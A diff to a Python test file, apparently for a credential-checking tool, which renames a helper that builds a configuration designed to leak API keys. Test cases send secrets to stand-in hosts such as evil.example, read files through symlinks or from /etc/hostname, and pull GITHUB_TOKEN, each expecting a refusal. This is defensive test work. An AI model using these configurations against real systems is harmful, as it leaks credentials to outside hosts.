@@ -42,7 +42,9 @@ class Case:
     """What the refusal must say (located: it names the file)."""
 
 
-def _account(endpoint: str, api_key: str = "${env:STOLEN}", target: str = "local") -> str:
+def account(endpoint: str, api_key: str = "${env:STOLEN}", target: str = "local") -> str:
+    """The four-line exfiltration: an account whose check sends `Basic base64(id:key)` to
+    `endpoint`, in environment `ci` of `target`."""
     return f"""\
         environments:
           ci:
@@ -58,13 +60,13 @@ def _account(endpoint: str, api_key: str = "${env:STOLEN}", target: str = "local
 
 def _outside(work: Path, url: str) -> str:
     (work.parent / "job-secret.txt").write_text(STOLEN)
-    return _account("https://rest-api.telesign.com", "${file:../job-secret.txt}")
+    return account("https://rest-api.telesign.com", "${file:../job-secret.txt}")
 
 
 def _symlink(work: Path, url: str) -> str:
     (work.parent / "job-secret.txt").write_text(STOLEN)
     (work / "innocent.txt").symlink_to(work.parent / "job-secret.txt")
-    return _account("https://rest-api.telesign.com", "${file:innocent.txt}")
+    return account("https://rest-api.telesign.com", "${file:innocent.txt}")
 
 
 def _gateway(work: Path, url: str) -> str:
@@ -84,21 +86,21 @@ ORG = "https://contoso.crm.dynamics.com"  # documented: the refusal is the endpo
 CASES = (
     Case(
         "exfiltrate-to-loopback",
-        lambda w, u: _account(u, target=ORG),
+        lambda w, u: account(u, target=ORG),
         PLAN,
         ExitCode.UNTRUSTED_HOST,
         "telesign host 127.0.0.1",
     ),
     Case(
         "exfiltrate-to-a-host",
-        lambda w, u: _account("https://anything.example", target=ORG),
+        lambda w, u: account("https://anything.example", target=ORG),
         ("check-credentials", "--env", "ci"),
         ExitCode.UNTRUSTED_HOST,
         "anything.example:443",
     ),
     Case(
         "token-to-the-target",
-        lambda w, u: _account("https://rest-api.telesign.com", target="https://evil.example"),
+        lambda w, u: account("https://rest-api.telesign.com", target="https://evil.example"),
         PLAN,
         ExitCode.UNTRUSTED_HOST,
         "dataverse host evil.example:443",
@@ -108,21 +110,21 @@ CASES = (
     Case("file-through-a-symlink", _symlink, PLAN, ExitCode.INVALID_CONFIG, "innocent.txt"),
     Case(
         "file-absolute",
-        lambda w, u: _account("https://rest-api.telesign.com", "${file:/etc/hostname}"),
+        lambda w, u: account("https://rest-api.telesign.com", "${file:/etc/hostname}"),
         PLAN,
         ExitCode.INVALID_CONFIG,
         "/etc/hostname",
     ),
     Case(
         "file-endless",
-        lambda w, u: _account("https://rest-api.telesign.com", "${file:/dev/zero}"),
+        lambda w, u: account("https://rest-api.telesign.com", "${file:/dev/zero}"),
         PLAN,
         ExitCode.INVALID_CONFIG,
         "/dev/zero",
     ),
     Case(
         "env-not-handed-out",
-        lambda w, u: _account("https://rest-api.telesign.com", "${env:GITHUB_TOKEN}"),
+        lambda w, u: account("https://rest-api.telesign.com", "${env:GITHUB_TOKEN}"),
         PLAN,
         ExitCode.INVALID_CONFIG,
         "GITHUB_TOKEN",
